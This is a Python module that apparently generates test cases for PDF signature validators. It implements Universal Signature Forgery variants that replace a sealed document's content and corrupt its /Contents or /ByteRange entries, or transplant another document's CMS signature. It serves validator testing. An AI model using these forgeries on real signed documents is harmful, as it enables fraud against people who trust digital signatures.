"""Universal signature forgery (Mladenov et al., 2019): the content is changed and the
seal's signature dictionary redefined in the same update so that a validator might skip
or mis-hash it: /Contents missing, empty, null or zeros; /ByteRange missing, empty,
zeros, negative, overlapping, or past the end; or A's valid CMS from another document."""

import re

from .pdfbytes import FORGED, Sig, append_update, stream, text_content

CONTENT = 5


def _replace(d: bytes, key: bytes, value: bytes | None) -> bytes:
    pat = {
        b"Contents": rb"/Contents\s*<[0-9A-Fa-f]*>",
        b"ByteRange": rb"/ByteRange\s*\[[^\]]*\]",
    }[key]
    return re.sub(pat, b"" if value is None else b"/" + key + b" " + value, d, count=1)


def cases(sealed: bytes, other_sealed: bytes) -> dict:
    sig = Sig(sealed)
    d = sig.dict_text(sealed)
    a, b = sig.gap
    n = len(sealed)
    other = Sig(other_sealed)
    variants = {
        "contents-missing": _replace(d, b"Contents", None),
        "contents-empty": _replace(d, b"Contents", b"<>"),
        "contents-null": _replace(d, b"Contents", b"null"),
        "contents-zeros": _replace(d, b"Contents", b"<" + b"00" * 4096 + b">"),
        "byterange-missing": _replace(d, b"ByteRange", None),
        "byterange-empty": _replace(d, b"ByteRange", b"[]"),
        "byterange-zeros": _replace(d, b"ByteRange", b"[0 0 0 0]"),
        "byterange-negative": _replace(d, b"ByteRange", b"[0 %d -%d %d]" % (a, b, n)),
        "byterange-overlapping": _replace(d, b"ByteRange", b"[0 %d %d %d]" % (b, a, n - a)),
        "byterange-past-eof": _replace(d, b"ByteRange", b"[0 %d %d %d]" % (a, b, 10 * n)),
        "cms-from-other-document": _replace(
            d, b"Contents", b"<" + other.contents_hex + b">"
        ),
    }
    forged = stream(b"", text_content(FORGED))
    return {
        name: append_update(sealed, {CONTENT: forged, sig.obj: dict_})
        for name, dict_ in variants.items()
    }
